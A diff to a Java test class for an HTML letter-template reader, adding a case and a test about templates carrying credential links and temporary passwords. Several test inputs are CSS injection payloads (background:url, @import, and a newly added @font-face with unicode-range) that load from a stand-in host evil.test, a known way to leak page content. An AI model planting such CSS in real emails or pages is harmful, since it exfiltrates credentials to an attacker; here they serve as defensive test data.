@@ -61,6 +61,7 @@ class HtmlReaderTest {
         "<style>p{background:url(https://evil.test/" + LINK + ")}</style>" + LINK,
         "<style>a[[href^='https']{background:url(https://evil.test)}</style>" + LINK,
         "<style>@IMPORT url(https://evil.test);</style>" + LINK,
+        "<style>@font-face{src:url(https://evil.test);unicode-range:U+30}</style>" + LINK,
         "<style>" + LINK,
         "<title>[ContactName]</title>" + LINK,
         "<title></titlex>" + LINK,
@@ -95,6 +96,14 @@ class HtmlReaderTest {
         .hasMessageContaining("[TemporaryPassword] is missing");
     assertThat(Letter.html(link).policy(CredentialPolicy.LINK).bodyHtml())
         .contains("<a href=\"%s\">In</a>".formatted(Escaped.html(Letter.LINK)));
+  }
+
+  @Test
+  void whatTheLibrarySendsAnEditorMaySendToo() {
+    var markup =
+        Markup.read("layout.html")
+            .replace("{content}", Markup.read("link.html") + Markup.read("password.html"));
+    assertThat(Letter.html(markup).bodyHtml()).contains(Letter.PASSWORD);
   }
 
   @Test
